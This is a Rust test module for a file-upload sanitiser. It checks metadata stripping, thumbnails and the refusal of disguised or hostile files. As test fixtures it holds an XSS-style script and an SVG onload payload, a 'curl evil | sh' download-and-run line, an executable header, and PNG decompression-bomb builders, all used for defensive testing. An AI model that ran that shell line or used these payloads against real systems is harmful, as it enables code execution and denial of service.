//! Behaviour of `inspect` on real files and on hostile ones.

use std::io::{Cursor, Write};

use image::{DynamicImage, ImageFormat, RgbImage, RgbaImage};
use proptest::prelude::*;

use super::*;
use crate::domain::{Lang, Refusal};

const GPS_PHOTO: &[u8] = include_bytes!("../../tests/fixtures/gps-photo.jpg");
const SCREENSHOT: &[u8] = include_bytes!("../../tests/fixtures/screenshot-1170x2532.png");
const RECEIPT: &[u8] = include_bytes!("../../tests/fixtures/e-receipt.pdf");

fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = 0xFFFF_FFFF_u32;
    for &b in bytes {
        crc ^= u32::from(b);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

fn png_chunk(kind: &[u8; 4], data: &[u8]) -> Vec<u8> {
    let mut out = (data.len() as u32).to_be_bytes().to_vec();
    out.extend_from_slice(kind);
    out.extend_from_slice(data);
    out.extend_from_slice(&crc32(&[&kind[..], data].concat()).to_be_bytes());
    out
}

/// An 8-bit RGB PNG claiming `width`×`height`, with the given zlib stream as its only IDAT.
fn png_with_header(width: u32, height: u32, idat: &[u8]) -> Vec<u8> {
    let mut ihdr = width.to_be_bytes().to_vec();
    ihdr.extend_from_slice(&height.to_be_bytes());
    ihdr.extend_from_slice(&[8, 2, 0, 0, 0]);
    [
        &b"\x89PNG\r\n\x1a\n"[..],
        &png_chunk(b"IHDR", &ihdr),
        &png_chunk(b"IDAT", idat),
        &png_chunk(b"IEND", b""),
    ]
    .concat()
}

/// A real bomb: every row present, all zeros, so it inflates to `width`×`height`×3 bytes.
fn zero_png(width: u32, height: u32) -> Vec<u8> {
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    let row = vec![0_u8; 1 + 3 * width as usize];
    for _ in 0..height {
        z.write_all(&row).expect("write to memory");
    }
    png_with_header(width, height, &z.finish().expect("finish"))
}

fn encoded(image: &DynamicImage, format: ImageFormat) -> Vec<u8> {
    let mut out = Cursor::new(Vec::new());
    image.write_to(&mut out, format).expect("encode");
    out.into_inner()
}

/// A small picture with structure, so a wrong rotation shows.
fn gradient(width: u32, height: u32) -> RgbImage {
    RgbImage::from_fn(width, height, |x, y| {
        image::Rgb([(x * 255 / width) as u8, (y * 255 / height) as u8, 128])
    })
}

fn decode(bytes: &[u8]) -> DynamicImage {
    image::load_from_memory(bytes).expect("our output decodes")
}

/// The refusal alone: a failing assertion on a whole `CleanFile` would print megabytes.
fn refused(name: &str, bytes: &[u8]) -> Option<FileRefusal> {
    inspect(name, bytes).err()
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

fn mean_difference(a: &DynamicImage, b: &DynamicImage) -> f64 {
    let (a, b) = (a.to_rgb8(), b.to_rgb8());
    assert_eq!(a.dimensions(), b.dimensions());
    let total: u64 = a
        .as_raw()
        .iter()
        .zip(b.as_raw())
        .map(|(x, y)| u64::from(x.abs_diff(*y)))
        .sum();
    total as f64 / a.as_raw().len() as f64
}

#[test]
fn gps_photo_comes_out_upright_with_no_exif_left() {
    // The fixture really carries what must go.
    let exif = exif::Reader::new()
        .read_from_container(&mut Cursor::new(GPS_PHOTO))
        .expect("the fixture has EXIF");
    assert!(
        exif.get_field(exif::Tag::GPSLatitude, exif::In::PRIMARY)
            .is_some()
    );
    let model = exif
        .get_field(exif::Tag::Model, exif::In::PRIMARY)
        .expect("the fixture names a camera")
        .display_value()
        .to_string();
    let model = model.trim_matches('"').to_owned();
    assert!(contains(GPS_PHOTO, model.as_bytes()));

    let clean = inspect("IMG_0001.JPG", GPS_PHOTO).expect("accepted");
    assert_eq!(clean.kind, FileKind::Jpeg);
    assert_eq!(
        clean.size,
        Some(Size {
            width: 600,
            height: 800
        })
    );
    assert!(
        exif::Reader::new()
            .read_from_container(&mut Cursor::new(&clean.bytes))
            .is_err(),
        "EXIF survived"
    );
    assert!(!contains(&clean.bytes, b"Exif\0\0"));
    assert!(!contains(&clean.bytes, model.as_bytes()));

    // Orientation 6 is a quarter turn clockwise: the output matches that turn, not the other.
    let sideways = decode(GPS_PHOTO);
    let out = decode(&clean.bytes);
    let clockwise = mean_difference(&out, &sideways.rotate90());
    let anticlockwise = mean_difference(&out, &sideways.rotate270());
    assert!(
        clockwise < 4.0 && clockwise * 4.0 < anticlockwise,
        "{clockwise} vs {anticlockwise}"
    );

    let thumb = clean.thumbnail.expect("images have a thumbnail");
    assert_eq!(thumb.kind, FileKind::Jpeg);
    assert_eq!(
        thumb.size,
        Size {
            width: 240,
            height: 320
        }
    );
    assert!(!contains(&thumb.bytes, b"Exif\0\0"));
    assert_eq!(decode(&thumb.bytes).height(), 320);
}

#[test]
fn screenshot_is_accepted_with_a_thumbnail_within_320_px() {
    let clean = inspect("Screenshot 2026-11-20.png", SCREENSHOT).expect("accepted");
    assert_eq!(clean.kind, FileKind::Png);
    assert_eq!(
        clean.size,
        Some(Size {
            width: 1170,
            height: 2532
        })
    );
    assert_eq!(clean.name, "Screenshot 2026-11-20.png");
    assert_eq!(clean.sha256, <[u8; 32]>::from(Sha256::digest(&clean.bytes)));
    assert_eq!(clean.sha256_hex().len(), 64);
    let thumb = clean.thumbnail.expect("thumbnail");
    assert!(thumb.size.width.max(thumb.size.height) <= 320);
    assert_eq!(thumb.size.height, 320);
    let shown = decode(&thumb.bytes);
    assert_eq!(
        (shown.width(), shown.height()),
        (thumb.size.width, thumb.size.height)
    );
    // Same pixels as sent.
    assert_eq!(decode(&clean.bytes).to_rgb8(), decode(SCREENSHOT).to_rgb8());
}

#[test]
fn pdf_is_kept_exactly_as_sent() {
    let clean = inspect("电子回单.pdf", RECEIPT).expect("accepted");
    assert_eq!(clean.kind, FileKind::Pdf);
    assert_eq!(clean.bytes, RECEIPT);
    assert_eq!((clean.size, clean.thumbnail), (None, None));
    let cut = &RECEIPT[..RECEIPT.len() / 2];
    assert_eq!(
        refused("电子回单.pdf", cut),
        Some(FileRefusal::Unreadable {
            name: "电子回单.pdf".into()
        })
    );
}

#[test]
fn html_svg_and_scripts_are_refused_whatever_their_name() {
    for (name, bytes) in [
        (
            "bill.png",
            &b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script>"[..],
        ),
        (
            "bill.png",
            b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
        ),
        ("receipt.pdf", b"<?xml version=\"1.0\"?><svg/>"),
        ("photo.jpg", b"#!/bin/sh\ncurl evil | sh\n"),
        ("a.webp", b"MZ\x90\0\x03\0\0\0"),
    ] {
        assert_eq!(
            refused(name, bytes),
            Some(FileRefusal::Unaccepted { name: name.into() }),
            "{name}"
        );
    }
}

#[test]
fn heic_is_refused_with_the_hint() {
    let heic = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic\0\0\0\0meta";
    let refusal = refused("IMG_2048.HEIC", heic).expect("refused");
    assert_eq!(
        refusal,
        FileRefusal::Heic {
            name: "IMG_2048.HEIC".into()
        }
    );
    assert!(refusal.message(Lang::En).contains("Most Compatible"));
}

#[test]
fn bomb_header_is_refused_before_decoding() {
    // 30000×30000 RGB would be 2.5 GiB; the file is a few dozen bytes.
    let tiny_idat = [
        0x78, 0x01, 0x01, 0x01, 0x00, 0xFE, 0xFF, 0x00, 0x00, 0x01, 0x00, 0x01,
    ];
    let bomb = png_with_header(30_000, 30_000, &tiny_idat);
    assert!(bomb.len() < 100);
    assert_eq!(
        refused("bomb.png", &bomb),
        Some(FileRefusal::TooManyPixels {
            name: "bomb.png".into(),
            width: 30_000,
            height: 30_000
        })
    );
    // Within the side limit, over the memory budget: refused from the header as well.
    assert!(matches!(
        inspect("wide.png", &png_with_header(5000, 5000, &tiny_idat)),
        Err(FileRefusal::TooManyPixels {
            width: 5000,
            height: 5000,
            ..
        })
    ));
}

/// Sets a JPEG's frame size (SOF0) to `width`×`height`.
fn jpeg_claiming(width: u16, height: u16) -> Vec<u8> {
    let mut jpeg = encoded(
        &DynamicImage::ImageRgb8(gradient(16, 16)),
        ImageFormat::Jpeg,
    );
    let sof = jpeg
        .windows(2)
        .position(|w| w == [0xFF, 0xC0])
        .expect("baseline frame");
    jpeg[sof + 5..sof + 7].copy_from_slice(&height.to_be_bytes());
    jpeg[sof + 7..sof + 9].copy_from_slice(&width.to_be_bytes());
    jpeg
}

#[test]
fn jpeg_claiming_too_many_pixels_is_refused() {
    for (width, height) in [(60_000, 60_000), (5000, 5000)] {
        assert_eq!(
            refused("big.jpg", &jpeg_claiming(width, height)),
            Some(FileRefusal::TooManyPixels {
                name: "big.jpg".into(),
                width: width.into(),
                height: height.into()
            })
        );
    }
}

#[test]
fn truncated_images_are_unreadable() {
    // A PNG missing only its IEND has every pixel; one missing image data does not.
    for (name, whole, short) in [("cut.jpg", GPS_PHOTO, 1), ("cut.png", SCREENSHOT, 40)] {
        for keep in [whole.len() / 2, whole.len() - short] {
            assert_eq!(
                refused(name, &whole[..keep]),
                Some(FileRefusal::Unreadable { name: name.into() }),
                "{name} cut at {keep}"
            );
        }
    }
    let webp = encoded(
        &DynamicImage::ImageRgb8(gradient(64, 64)),
        ImageFormat::WebP,
    );
    assert_eq!(
        refused("cut.webp", &webp[..webp.len() / 2]),
        Some(FileRefusal::Unreadable {
            name: "cut.webp".into()
        })
    );
}

#[test]
fn empty_and_oversized_files_are_refused_by_size() {
    assert_eq!(
        refused("x.png", b""),
        Some(FileRefusal::Empty {
            name: "x.png".into()
        })
    );
    let big = vec![0_u8; EVIDENCE_FILE_MAX_BYTES as usize + 1];
    assert_eq!(
        refused("scan.pdf", &big),
        Some(FileRefusal::TooLarge {
            name: "scan.pdf".into(),
            bytes: EVIDENCE_FILE_MAX_BYTES + 1
        })
    );
}

#[test]
fn png_text_and_exif_chunks_are_dropped() {
    let plain = encoded(&DynamicImage::ImageRgb8(gradient(40, 30)), ImageFormat::Png);
    let ihdr_end = 8 + 25;
    let tagged = [
        &plain[..ihdr_end],
        &png_chunk(b"tEXt", b"Comment\0home at 39.9075N 116.3881E"),
        &png_chunk(
            b"iTXt",
            b"XML:com.adobe.xmp\0\0\0\0\0<x:xmpmeta>secret-xmp</x:xmpmeta>",
        ),
        &png_chunk(b"eXIf", b"MM\0*\0\0\0\x08\0\0"),
        &plain[ihdr_end..],
    ]
    .concat();
    assert!(contains(&tagged, b"home at"));
    let clean = inspect("s.png", &tagged).expect("accepted");
    for needle in [
        &b"tEXt"[..],
        b"iTXt",
        b"zTXt",
        b"eXIf",
        b"home at",
        b"secret-xmp",
    ] {
        assert!(
            !contains(&clean.bytes, needle),
            "{}",
            String::from_utf8_lossy(needle)
        );
    }
}

#[test]
fn jpeg_xmp_is_dropped() {
    let plain = encoded(
        &DynamicImage::ImageRgb8(gradient(40, 30)),
        ImageFormat::Jpeg,
    );
    let xmp = b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta><exif:GPSLatitude>39,54.45N</exif:GPSLatitude></x:xmpmeta>";
    let mut segment = vec![0xFF, 0xE1];
    segment.extend_from_slice(&((xmp.len() + 2) as u16).to_be_bytes());
    segment.extend_from_slice(xmp);
    let tagged = [&plain[..2], &segment, &plain[2..]].concat();
    let clean = inspect("x.jpg", &tagged).expect("accepted");
    assert!(!contains(&clean.bytes, b"ns.adobe.com"));
    assert!(!contains(&clean.bytes, b"GPSLatitude"));
}

#[test]
fn webp_is_stored_as_png_and_alpha_keeps_a_png_thumbnail() {
    let picture = RgbaImage::from_fn(400, 100, |x, _| image::Rgba([x as u8, 0, 0, 200]));
    let webp = encoded(
        &DynamicImage::ImageRgba8(picture.clone()),
        ImageFormat::WebP,
    );
    let clean = inspect("chat.webp", &webp).expect("accepted");
    assert_eq!(clean.kind, FileKind::Png);
    assert_eq!(decode(&clean.bytes).to_rgba8(), picture);
    let thumb = clean.thumbnail.expect("thumbnail");
    assert_eq!(
        (thumb.kind, thumb.size.width, thumb.size.height),
        (FileKind::Png, 320, 80)
    );
}

#[test]
fn small_images_keep_their_size_in_the_thumbnail() {
    let png = encoded(
        &DynamicImage::ImageRgb8(gradient(100, 50)),
        ImageFormat::Png,
    );
    let thumb = inspect("s.png", &png)
        .expect("accepted")
        .thumbnail
        .expect("thumbnail");
    assert_eq!((thumb.size.width, thumb.size.height), (100, 50));
}

/// Runs in its own process (see below) so its peak memory is its own.
#[test]
#[ignore = "run by bomb_is_refused_without_the_process_memory_growing in a child process"]
fn bomb_child() {
    if std::env::var_os("APPEALDESK_BOMB_CHILD").is_none() {
        return;
    }
    // 8000×8000 RGB inflates to 183 MiB: within the side limit, so only the memory budget stops it.
    let bomb = zero_png(8000, 8000);
    assert!(bomb.len() < 400 * 1024, "{}", bomb.len());
    let before = peak_rss_kib();
    let refused = (0..8)
        .filter(|_| {
            matches!(
                refused("bomb.png", &bomb),
                Some(FileRefusal::TooManyPixels { .. })
            )
        })
        .count();
    println!(
        "BOMB refused={refused} before={before} after={}",
        peak_rss_kib()
    );
}

pub(crate) fn peak_rss_kib() -> u64 {
    std::fs::read_to_string("/proc/self/status")
        .ok()
        .and_then(|s| {
            s.lines()
                .find_map(|l| l.strip_prefix("VmHWM:"))
                .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        })
        .unwrap_or(0)
}

#[test]
fn bomb_is_refused_without_the_process_memory_growing() {
    let exe = std::env::current_exe().expect("test binary");
    let out = std::process::Command::new(exe)
        .args([
            "--exact",
            "evidence_files::tests::bomb_child",
            "--ignored",
            "--nocapture",
        ])
        .env("APPEALDESK_BOMB_CHILD", "1")
        .output()
        .expect("child runs");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let line = stdout
        .lines()
        .find_map(|l| l.strip_prefix("BOMB "))
        .expect("the child reports");
    let numbers: Vec<u64> = line
        .split(' ')
        .filter_map(|kv| kv.split_once('=').and_then(|(_, v)| v.parse().ok()))
        .collect();
    let [refused, before, after] = numbers[..] else {
        panic!("{line}")
    };
    assert!(before > 0);
    assert_eq!(refused, 8, "{line}");
    // A decode would have touched 183 MiB; the process stays far under the 256 MiB cap.
    assert!(after - before < 16 * 1024, "{line}");
    assert!(after < 96 * 1024, "{line}");
}

fn small_images() -> Vec<Vec<u8>> {
    let rgb = DynamicImage::ImageRgb8(gradient(24, 16));
    vec![
        encoded(&rgb, ImageFormat::Png),
        encoded(&rgb, ImageFormat::Jpeg),
        encoded(&rgb, ImageFormat::WebP),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn no_bytes_make_it_panic(
        prefix in prop_oneof![
            Just(b"\x89PNG\r\n\x1a\n".to_vec()),
            Just(b"\xFF\xD8\xFF".to_vec()),
            Just(b"RIFF\0\0\0\0WEBP".to_vec()),
            Just(b"%PDF-1.4".to_vec()),
            Just(Vec::new()),
        ],
        tail in proptest::collection::vec(any::<u8>(), 0..512),
    ) {
        let _ = inspect("x", &[prefix, tail].concat());
    }

    #[test]
    fn damaged_images_are_refused_or_cleaned_never_panic(
        which in 0_usize..3,
        flips in proptest::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 1..8),
        cut in any::<prop::sample::Index>(),
    ) {
        let mut bytes = small_images().swap_remove(which);
        for (at, value) in flips {
            let i = at.index(bytes.len());
            bytes[i] = value;
        }
        let len = bytes.len();
        bytes.truncate(len - cut.index(len / 4 + 1));
        if let Ok(clean) = inspect("x", &bytes) {
            prop_assert!(clean.kind == FileKind::Jpeg || clean.kind == FileKind::Png);
            let thumb = clean.thumbnail.expect("images have thumbnails");
            prop_assert!(thumb.size.width.max(thumb.size.height) <= 320);
        }
    }
}
